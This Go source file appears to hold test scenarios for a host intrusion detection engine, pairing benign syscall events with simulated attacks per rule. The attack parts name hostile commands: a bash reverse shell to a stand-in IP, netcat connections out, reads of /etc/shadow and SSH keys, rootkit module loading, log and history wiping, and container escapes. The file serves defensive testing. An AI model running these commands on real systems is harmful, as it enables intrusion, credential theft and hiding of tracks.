package scenario

import (
	"net/netip"

	"github.com/aerie-sec/aerie/engine/event"
)

// Scenario is the test capture of one rule: benign look-alike events that must raise nothing,
// then the attack, which raises Rule exactly Count times.
type Scenario struct {
	Name   string // capture file stem under testdata/
	Rule   string
	Count  int
	Benign func(b *Builder)
	Attack func(b *Builder)
}

// BenignName is the stem of the capture that joins every scenario's benign part.
const BenignName = "benign"

// Build returns the capture of s: its benign events, then its attack.
func (s Scenario) Build() ([]byte, error) {
	b := NewBuilder()
	s.Benign(b)
	s.Attack(b)
	return b.Encode()
}

// BuildBenign returns the capture holding the benign part of every scenario, in order.
func BuildBenign() ([]byte, error) {
	b := NewBuilder()
	for _, s := range All() {
		s.Benign(b)
	}
	return b.Encode()
}

func addr(s string) netip.AddrPort { return netip.MustParseAddrPort(s) }

var hostAddr = addr("192.168.10.5:41022")

// All returns the scenarios, one per rule, in rules-file order.
func All() []Scenario {
	return []Scenario{
		{
			Name: "password_store_read", Rule: "Password Store Read by Unexpected Program", Count: 1,
			Benign: func(b *Builder) {
				b.Open(TIDSshd, "/etc/shadow", ORdonly|OCloexec)
				pw := b.Spawn(TIDAliceBash, "/usr/bin/passwd", nil, AsUser(0))
				b.Open(pw, "/etc/shadow", ORdonly)
				b.Exit(pw)
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/etc/passwd"})
				b.Open(cat, "/etc/passwd", ORdonly)
				b.Exit(cat)
				denied := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/etc/shadow"})
				b.OpenResult(denied, "/etc/shadow", ORdonly, -13) // EACCES: nothing was read
				b.Exit(denied)
			},
			Attack: func(b *Builder) {
				cat := b.Spawn(TIDRootBash, "/usr/bin/cat", []string{"/etc/shadow"})
				b.Open(cat, "/etc/shadow", ORdonly)
				b.Exit(cat)
			},
		},
		{
			Name: "ssh_key_read", Rule: "SSH Private Key Read by Unexpected Program", Count: 1,
			Benign: func(b *Builder) {
				ssh := b.Spawn(TIDAliceBash, "/usr/bin/ssh", []string{"git@example.org"})
				b.Open(ssh, "/home/alice/.ssh/id_ed25519", ORdonly)
				b.Exit(ssh)
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{".ssh/id_ed25519.pub"})
				b.Open(cat, "/home/alice/.ssh/id_ed25519.pub", ORdonly)
				b.Exit(cat)
				b.Open(TIDSshd, "/etc/ssh/ssh_host_ed25519_key", ORdonly)
			},
			Attack: func(b *Builder) {
				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"-c", "import os"})
				b.Open(py, "/home/alice/.ssh/id_ed25519", ORdonly)
				b.Exit(py)
			},
		},
		{
			Name: "sensitive_link", Rule: "Link to Sensitive File Created", Count: 2,
			Benign: func(b *Builder) {
				ln := b.Spawn(TIDAliceBash, "/usr/bin/ln", []string{"-s", "/etc/hosts", "/tmp/hosts"})
				b.Call(ln, event.SyscallSymlinkatX, map[string]any{"res": 0, "target": "/etc/hosts", "linkdirfd": atFDCWD, "linkpath": "/tmp/hosts"})
				b.Exit(ln)
			},
			Attack: func(b *Builder) {
				ln := b.Spawn(TIDAliceBash, "/usr/bin/ln", []string{"-s", "/etc/shadow", "/tmp/s"})
				b.Call(ln, event.SyscallSymlinkatX, map[string]any{"res": 0, "target": "/etc/shadow", "linkdirfd": atFDCWD, "linkpath": "/tmp/s"})
				b.Exit(ln)
				hl := b.Spawn(TIDAliceBash, "/usr/bin/ln", []string{"/etc/sudoers", "/tmp/x"})
				b.Call(hl, event.SyscallLinkatV2X, map[string]any{"res": 0, "olddir": atFDCWD, "oldpath": "/etc/sudoers", "newdir": atFDCWD, "newpath": "/tmp/x"})
				b.Exit(hl)
			},
		},
		{
			Name: "server_shell", Rule: "Shell Started by Server Process", Count: 1,
			Benign: func(b *Builder) {
				sh := b.Spawn(TIDAliceBash, "/bin/sh", []string{"-c", "make"})
				b.Exit(sh)
				ls := b.Spawn(TIDNginx, "/usr/bin/logger", []string{"reloaded"})
				b.Exit(ls)
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDNginx, "/bin/sh", []string{"-c", "id; uname -a"}, NoTTY())
				b.Exit(sh)
			},
		},
		{
			Name: "memfd_exec", Rule: "Program Executed from Memory File", Count: 1,
			Benign: func(b *Builder) {
				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"job.py"})
				b.Call(py, event.SyscallMemfdCreateX, map[string]any{"fd": 3, "name": "buffer", "flags": 1})
				b.Exit(py)
			},
			Attack: func(b *Builder) {
				loader := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"loader.py"})
				b.Call(loader, event.SyscallMemfdCreateX, map[string]any{"fd": 3, "name": "x", "flags": 1})
				b.Exec(loader, "/proc/self/fd/3", []string{"-q"}, ExePath("/memfd:x (deleted)"), ExeFlags(4))
				b.Exit(loader)
			},
		},
		{
			Name: "ptrace_attach", Rule: "Process Attached or Written with Ptrace", Count: 1,
			Benign: func(b *Builder) {
				child := b.Spawn(TIDAliceBash, "/usr/bin/strace", []string{"ls"})
				b.Call(child, event.SyscallPtraceX, map[string]any{"res": 0, "request": 1, "pid": 0}) // PTRACE_TRACEME
				b.Exit(child)
				gdb := b.Spawn(TIDAliceBash, "/usr/bin/gdb", []string{"-p", "2000"})
				b.Call(gdb, event.SyscallPtraceX, map[string]any{"res": -1, "request": 11, "pid": TIDNginx}) // PTRACE_ATTACH, EPERM
				b.Exit(gdb)
			},
			Attack: func(b *Builder) {
				inj := b.Spawn(TIDRootBash, "/root/inject", []string{"2000"})
				b.Call(inj, event.SyscallPtraceX, map[string]any{"res": 0, "request": 11, "pid": TIDNginx}) // PTRACE_ATTACH
				b.Exit(inj)
			},
		},
		{
			Name: "kernel_module", Rule: "Kernel Module Loaded", Count: 1,
			Benign: func(b *Builder) {
				b.Call(TIDUdevd, event.SyscallFinitModuleX, map[string]any{"res": 0, "fd": 9, "uargs": "", "flags": 0})
				mp := b.Spawn(TIDKworker, "/sbin/modprobe", []string{"-q", "--", "netdev-eth1"})
				b.Call(mp, event.SyscallFinitModuleX, map[string]any{"res": 0, "fd": 3, "uargs": "", "flags": 0})
				b.Exit(mp)
				fail := b.Spawn(TIDAliceBash, "/usr/sbin/insmod", []string{"x.ko"})
				b.Call(fail, event.SyscallFinitModuleX, map[string]any{"res": -1, "fd": 3, "uargs": "", "flags": 0})
				b.Exit(fail)
			},
			Attack: func(b *Builder) {
				ins := b.Spawn(TIDRootBash, "/usr/sbin/insmod", []string{"/tmp/diamorphine.ko"})
				b.Call(ins, event.SyscallFinitModuleX, map[string]any{"res": 0, "fd": 3, "uargs": "", "flags": 0})
				b.Exit(ins)
			},
		},
		{
			Name: "binary_dir_write", Rule: "Binary Directory Written", Count: 1,
			Benign: func(b *Builder) {
				dpkg := b.Spawn(TIDRootBash, "/usr/bin/dpkg", []string{"-i", "jq.deb"})
				b.Open(dpkg, "/usr/bin/jq.dpkg-new", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(dpkg)
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/usr/bin/ls"})
				b.Open(cat, "/usr/bin/ls", ORdonly)
				b.Exit(cat)
			},
			Attack: func(b *Builder) {
				cp := b.Spawn(TIDRootBash, "/usr/bin/cp", []string{"/tmp/x", "/usr/bin/sshd-helper"})
				b.Open(cp, "/usr/bin/sshd-helper", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(cp)
			},
		},
		{
			Name: "setuid_bit", Rule: "Setuid or Setgid Bit Set", Count: 1,
			Benign: func(b *Builder) {
				ch := b.Spawn(TIDAliceBash, "/usr/bin/chmod", []string{"755", "/tmp/run.sh"})
				b.Call(ch, event.SyscallFchmodatX, map[string]any{"res": 0, "dirfd": atFDCWD, "filename": "/tmp/run.sh", "mode": 0o755})
				b.Exit(ch)
				dpkg := b.Spawn(TIDRootBash, "/usr/bin/dpkg", []string{"-i", "passwd.deb"})
				b.Call(dpkg, event.SyscallChmodX, map[string]any{"res": 0, "filename": "/usr/bin/passwd", "mode": 0o4755})
				b.Exit(dpkg)
			},
			Attack: func(b *Builder) {
				ch := b.Spawn(TIDRootBash, "/usr/bin/chmod", []string{"u+s", "/tmp/.sh"})
				b.Call(ch, event.SyscallFchmodatX, map[string]any{"res": 0, "dirfd": atFDCWD, "filename": "/tmp/.sh", "mode": 0o4755})
				b.Exit(ch)
			},
		},
		{
			Name: "log_cleared", Rule: "System Log Cleared", Count: 2,
			Benign: func(b *Builder) {
				lr := b.Spawn(TIDCrond, "/usr/sbin/logrotate", []string{"/etc/logrotate.conf"})
				b.Open(lr, "/var/log/syslog", OWronly|OTrunc)
				b.Call(lr, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": "/var/log/syslog.4.gz", "flags": 0})
				b.Exit(lr)
				b.Open(TIDNginx, "/var/log/nginx/access.log", OWronly|OAppend|OCreat)
				xorg := b.Spawn(TIDInit, "/usr/lib/xorg/Xorg", []string{":0"})
				b.Open(xorg, "/var/log/Xorg.0.log", OWronly|OCreat|OTrunc|FCreated) // after renaming the old log
				b.Exit(xorg)
				rm := b.Spawn(TIDAliceBash, "/usr/bin/rm", []string{"/tmp/old.txt"})
				b.Call(rm, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": "/tmp/old.txt", "flags": 0})
				b.Exit(rm)
			},
			Attack: func(b *Builder) {
				b.Open(TIDRootBash, "/var/log/wtmp", OWronly|OCreat|OTrunc) // > /var/log/wtmp
				b.Chdir(TIDRootBash, "/var/log")
				rm := b.Spawn(TIDRootBash, "/usr/bin/rm", []string{"-f", "auth.log"})
				b.Call(rm, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": "auth.log", "flags": 0})
				b.Exit(rm)
				b.Chdir(TIDRootBash, "/root")
			},
		},
		{
			Name: "shell_history_erased", Rule: "Shell History Erased", Count: 3,
			Benign: func(b *Builder) {
				b.Open(TIDAliceBash, "/home/alice/.bash_history", OWronly|OTrunc) // bash saving its history
				less := b.Spawn(TIDAliceBash, "/usr/bin/less", []string{".bash_history"})
				b.Open(less, "/home/alice/.bash_history", ORdonly)
				b.Exit(less)
				rm := b.Spawn(TIDAliceBash, "/usr/bin/rm", []string{".lesshst"})
				b.Call(rm, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": ".lesshst", "flags": 0})
				b.Exit(rm)
			},
			Attack: func(b *Builder) {
				rm := b.Spawn(TIDRootBash, "/usr/bin/rm", []string{".bash_history"})
				b.Call(rm, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": ".bash_history", "flags": 0})
				b.Exit(rm)
				ln := b.Spawn(TIDAliceBash, "/usr/bin/ln", []string{"-s", "/dev/null", ".zsh_history"})
				b.Call(ln, event.SyscallSymlinkatX, map[string]any{"res": 0, "target": "/dev/null", "linkdirfd": atFDCWD, "linkpath": ".zsh_history"})
				b.Exit(ln)
				cp := b.Spawn(TIDAliceBash, "/usr/bin/cp", []string{"/dev/null", ".bash_history"})
				b.Open(cp, "/home/alice/.bash_history", OWronly|OTrunc)
				b.Exit(cp)
			},
		},
		{
			Name: "reverse_shell", Rule: "Shell Opened Network Connection", Count: 1,
			Benign: func(b *Builder) {
				curl := b.Spawn(TIDAliceBash, "/usr/bin/curl", []string{"https://example.org/"})
				b.Connect(curl, hostAddr, addr("93.184.216.34:443"), 0)
				b.Exit(curl)
				b.Connect(TIDAliceBash, addr("127.0.0.1:40222"), addr("127.0.0.1:8080"), 0) // exec 3<>/dev/tcp/127.0.0.1/8080
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDAliceBash, "/bin/bash", []string{"-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"})
				b.Connect(sh, hostAddr, addr("203.0.113.7:4444"), 0)
				b.Exit(sh)
			},
		},
		{
			Name: "netcat_outbound", Rule: "Netcat-like Tool Connected Out", Count: 2,
			Benign: func(b *Builder) {
				nc := b.Spawn(TIDAliceBash, "/usr/bin/nc", []string{"-z", "127.0.0.1", "22"})
				b.Connect(nc, addr("127.0.0.1:40100"), addr("127.0.0.1:22"), 0)
				b.Exit(nc)
				failed := b.Spawn(TIDAliceBash, "/usr/bin/nc", []string{"198.51.100.23", "9001"})
				b.Connect(failed, hostAddr, addr("198.51.100.23:9001"), -111) // ECONNREFUSED
				b.Exit(failed)
			},
			Attack: func(b *Builder) {
				nc := b.Spawn(TIDAliceBash, "/usr/bin/nc", []string{"198.51.100.23", "9001"})
				b.Connect(nc, hostAddr, addr("198.51.100.23:9001"), 0)
				b.Exit(nc)
				socat := b.Spawn(TIDAliceBash, "/usr/bin/socat", []string{"-", "TCP:[2001:db8::5]:443"})
				b.Connect(socat, addr("[2001:db8::10]:51000"), addr("[2001:db8::5]:443"), -115) // EINPROGRESS
				b.Exit(socat)
			},
		},
		{
			Name: "container_shell", Rule: "Interactive Shell in Container", Count: 1,
			Benign: func(b *Builder) {
				hc := b.Spawn(TIDAppInCtr, "/bin/sh", []string{"-c", "curl -fs localhost/health"})
				b.Exit(hc)
				bash := b.Spawn(TIDAliceBash, "/bin/bash", nil)
				b.Exit(bash)
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDAppInCtr, "/bin/bash", nil, OnTTY(TTYOther), AsUser(0))
				b.Exit(sh)
			},
		},
		{
			Name: "container_mount", Rule: "Filesystem Mounted in Container", Count: 1,
			Benign: func(b *Builder) {
				m := b.Spawn(TIDRootBash, "/usr/bin/mount", []string{"/dev/sdb1", "/mnt"})
				b.Call(m, event.SyscallMountX, map[string]any{"res": 0, "dev": "/dev/sdb1", "dir": "/mnt", "type": "ext4", "flags": 0})
				b.Exit(m)
				denied := b.Spawn(TIDAppInCtr, "/usr/bin/mount", []string{"-t", "proc", "proc", "/mnt"})
				b.Call(denied, event.SyscallMountX, map[string]any{"res": -1, "dev": "proc", "dir": "/mnt", "type": "proc", "flags": 0}) // EPERM
				b.Exit(denied)
			},
			Attack: func(b *Builder) {
				m := b.Spawn(TIDAppInCtr, "/usr/bin/mount", []string{"/dev/sda1", "/mnt"})
				b.Call(m, event.SyscallMountX, map[string]any{"res": 0, "dev": "/dev/sda1", "dir": "/mnt", "type": "ext4", "flags": 0})
				b.Exit(m)
			},
		},
		{
			Name: "runtime_socket", Rule: "Container Runtime Socket Used from Container", Count: 1,
			Benign: func(b *Builder) {
				docker := b.Spawn(TIDRootBash, "/usr/bin/docker", []string{"ps"})
				b.ConnectUnix(docker, "/var/run/docker.sock")
				b.Exit(docker)
				b.ConnectUnix(TIDAppInCtr, "/tmp/app.sock")
			},
			Attack: func(b *Builder) {
				curl := b.Spawn(TIDAppInCtr, "/usr/bin/curl", []string{"--unix-socket", "/var/run/docker.sock", "http://x/containers/json"})
				b.ConnectUnix(curl, "/var/run/docker.sock")
				b.Exit(curl)
			},
		},
		{
			Name: "container_setns", Rule: "Namespace Joined from Container", Count: 1,
			Benign: func(b *Builder) {
				ns := b.Spawn(TIDRootBash, "/usr/bin/nsenter", []string{"-t", "3001", "-n"})
				fd := b.Open(ns, "/proc/3001/ns/net", ORdonly|OCloexec)
				b.Call(ns, event.SyscallSetnsX, map[string]any{"res": 0, "fd": fd, "nstype": 16}) // CLONE_NEWNET
				b.Exit(ns)
			},
			Attack: func(b *Builder) {
				ns := b.Spawn(TIDAppInCtr, "/usr/bin/nsenter", []string{"-t", "1", "-m", "sh"})
				fd := b.Open(ns, "/proc/1/ns/mnt", ORdonly|OCloexec)                              // the host's init, seen through hostPID
				b.Call(ns, event.SyscallSetnsX, map[string]any{"res": 0, "fd": fd, "nstype": 32}) // CLONE_NEWNS
				b.Exit(ns)
			},
		},
		{
			Name: "hidden_tmp_file", Rule: "Hidden File Created in Temporary Directory", Count: 2,
			Benign: func(b *Builder) {
				b.Open(TIDAliceBash, "/tmp/build.log", OWronly|OCreat|FCreated)
				b.Call(TIDInit, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/tmp/.X11-unix", "mode": 0o1777})
				b.Open(TIDAliceBash, "/tmp/.lock", OWronly|OCreat) // already existed
				b.Open(TIDInit, "/tmp/.X0-lock", OWronly|OCreat|FCreated)
			},
			Attack: func(b *Builder) {
				b.Open(TIDNginx, "/dev/shm/.x", OWronly|OCreat|FCreated)
				b.Call(TIDNginx, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/var/tmp/.cache", "mode": 0o755})
			},
		},
		{
			Name: "tmp_exec", Rule: "Program Executed from Temporary Directory", Count: 1,
			Benign: func(b *Builder) {
				ls := b.Spawn(TIDAliceBash, "/usr/bin/ls", []string{"/tmp"})
				b.Exit(ls)
				test := b.Spawn(TIDAliceBash, "/tmp/go-build3071/b001/rules.test", []string{"-test.v"})
				b.Exit(test)
			},
			Attack: func(b *Builder) {
				x := b.Spawn(TIDNginx, "/dev/shm/kworker", nil)
				b.Exit(x)
			},
		},
		{
			Name: "authorized_keys", Rule: "SSH Authorized Keys Modified", Count: 1,
			Benign: func(b *Builder) {
				b.Open(TIDSshd, "/home/alice/.ssh/authorized_keys", ORdonly)
				ci := b.Spawn(TIDInit, "/usr/bin/cloud-init", []string{"modules"})
				b.Open(ci, "/root/.ssh/authorized_keys", OWronly|OCreat|OTrunc)
				b.Exit(ci)
			},
			Attack: func(b *Builder) {
				b.Open(TIDRootBash, "/root/.ssh/authorized_keys", OWronly|OCreat|OAppend) // echo ... >> authorized_keys
			},
		},
		{
			Name: "scheduler_file", Rule: "Scheduled Task or Service File Written", Count: 1,
			Benign: func(b *Builder) {
				ct := b.Spawn(TIDAliceBash, "/usr/bin/crontab", []string{"-e"})
				b.Open(ct, "/var/spool/cron/crontabs/alice", OWronly|OCreat|OTrunc)
				b.Exit(ct)
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/etc/crontab"})
				b.Open(cat, "/etc/crontab", ORdonly)
				b.Exit(cat)
			},
			Attack: func(b *Builder) {
				tee := b.Spawn(TIDRootBash, "/usr/bin/tee", []string{"/etc/cron.d/updater"})
				b.Open(tee, "/etc/cron.d/updater", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(tee)
			},
		},
	}
}
